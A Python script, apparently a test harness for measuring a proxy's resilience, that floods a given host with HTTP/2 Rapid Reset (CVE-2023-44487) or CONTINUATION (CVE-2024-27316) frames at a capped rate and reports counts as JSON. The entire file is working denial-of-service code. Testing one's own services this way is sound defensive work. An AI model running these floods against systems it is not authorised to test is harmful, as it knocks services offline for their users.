"""Floods of HTTP/2 frames at one address, from another address of this machine: flood.py KIND HOST:PORT SOURCE SECONDS.
  reset         streams begun and reset at once (CVE-2023-44487)
  continuation  header blocks that never end (CVE-2024-27316)
Prints what was sent, as JSON. At most 2,000 frames a second: the point is what they cost the proxy, not who has more CPU."""
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAMES_PER_SECOND = 2000
# :method POST, :scheme http, :path and :authority literal without indexing.
PATH = b"/fixpoint.v1.Generation/Generate"
HEADERS = b"\x83\x86" + b"\x04" + bytes([len(PATH)]) + PATH + b"\x01\x01a"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def connect(target, source):
    connection = socket.create_connection(target, timeout=2, source_address=(source, 0))
    connection.sendall(PREFACE + frame(4, 0, 0))
    connection.settimeout(0)
    return connection


def main(kind, target, source, seconds):
    host, port = target.rsplit(":", 1)
    end = time.monotonic() + float(seconds)
    frames = connections = closed = refused = 0
    connection, stream, due = None, 1, time.monotonic()
    while time.monotonic() < end:
        due += 20 / FRAMES_PER_SECOND
        time.sleep(max(0, due - time.monotonic()))
        try:
            if connection is None:
                connection, stream = connect((host, int(port)), source), 1
                connections += 1
                if kind == "continuation":
                    connection.sendall(frame(1, 0, stream, HEADERS))  # without END_HEADERS
            if kind == "reset":
                burst = b"".join(frame(1, 5, stream + 2 * i, HEADERS) + frame(3, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(10))
                stream += 20
            else:
                burst = frame(9, 0, stream, b"\x00\x01x\x01y" * 50) * 20
            connection.sendall(burst)
            frames += 20
            try:
                while data := connection.recv(65536):
                    pass
                raise ConnectionResetError  # an orderly end
            except BlockingIOError:
                pass
        except BlockingIOError:
            continue  # the proxy does not read: nothing to send it
        except OSError:
            if connection is not None:
                connection.close()
                closed += 1
            else:
                refused += 1
            connection = None
    print(json.dumps({"frames": frames, "connections": connections, "closed_by_proxy": closed, "refused": refused}))


if __name__ == "__main__":
    main(*sys.argv[1:])
